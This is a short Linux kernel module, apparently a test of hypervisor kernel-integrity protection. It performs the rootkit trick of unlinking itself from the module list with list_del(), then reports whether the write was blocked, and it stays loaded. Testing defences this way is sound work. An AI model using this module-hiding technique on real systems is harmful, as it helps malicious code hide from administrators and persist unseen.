// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: hide the way public rootkits do, and stay loaded. A plain
 * list_del() of its own entry in the module list: the neighbours' pointers
 * are redirected past it, and its own are poisoned. If the hypervisor
 * refuses the neighbours' writes but lets the module poison its own entry,
 * the list is left half-unlinked, and the next walk of it (lsmod, rmmod of
 * any module) oopses on LIST_POISON1. The module's `struct module` is the
 * kernel's, not the module's, even though it lies in the module's data.
 */
#include <linux/module.h>
#include <linux/list.h>
#include "alias.h"

static int __init atk_init(void)
{
	struct list_head *me = &THIS_MODULE->list;
	struct list_head *prev = me->prev, *next = me->next;

	list_del(me);
	/* Read memory as it is now, not what the compiler knows it stored. */
	barrier();
	report("module list unlink %s: neighbours %s, own entry %s",
	       READ_ONCE(prev->next) != me || READ_ONCE(next->prev) != me ? "WENT THROUGH" : "blocked",
	       READ_ONCE(prev->next) == me && READ_ONCE(next->prev) == me ? "kept" : "CHANGED",
	       READ_ONCE(me->next) == next && READ_ONCE(me->prev) == prev ? "kept" : "POISONED");
	/* A rootkit stays: the module remains loaded whatever happened. */
	return 0;
}

static void __exit atk_exit(void)
{
}

module_init(atk_init);
module_exit(atk_exit);
MODULE_LICENSE("GPL");
